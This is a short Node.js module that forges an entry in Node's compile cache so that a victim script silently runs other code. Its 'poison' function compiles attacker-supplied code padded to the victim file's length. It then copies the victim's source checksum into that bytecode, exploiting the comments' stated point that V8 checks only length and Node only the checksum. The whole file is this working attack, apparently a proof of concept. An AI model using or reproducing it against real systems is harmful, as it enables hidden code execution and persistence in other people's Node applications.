import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';

/** Where Node's compile cache keeps a checksum of the source that the bytecode belongs to. */
const SOURCE_HASH = 12;

/** What Node caches of a file that it runs: [name in the cache, bytes]. */
function cached(node, file, cache) {
  execFileSync(node, [file], { env: { NODE_COMPILE_CACHE: cache }, stdio: 'ignore' });
  const [version] = readdirSync(cache);
  const [name] = readdirSync(join(cache, version));
  return [join(version, name), readFileSync(join(cache, version, name))];
}

/**
 * An entry of the compile cache that has other code for a file: the bytecode of a
 * text of the same length, which is all that V8 compares, under the checksum of the
 * file's own text, which is all that Node compares. [name in the cache, bytes].
 */
export function poison(node, victim, code, scratch) {
  mkdirSync(scratch, { recursive: true });
  const [name, own] = cached(node, victim, join(scratch, 'own'));
  const evil = join(scratch, basename(victim));
  writeFileSync(evil, `${code}//`.padEnd(readFileSync(victim, 'utf8').length, 'x'));
  const [, bytes] = cached(node, evil, join(scratch, 'evil'));
  own.copy(bytes, SOURCE_HASH, SOURCE_HASH, SOURCE_HASH + 4);
  return [name, bytes];
}
